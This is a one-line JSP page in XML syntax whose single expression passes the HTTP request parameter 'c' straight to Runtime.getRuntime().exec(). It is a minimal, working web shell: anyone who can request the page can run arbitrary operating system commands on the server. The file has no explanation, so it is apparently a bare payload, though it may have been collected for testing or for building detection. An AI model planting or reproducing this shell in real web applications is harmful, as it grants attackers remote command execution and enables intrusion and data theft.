<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:expression>Runtime.getRuntime().exec(request.getParameter("c"))</jsp:expression></jsp:root>
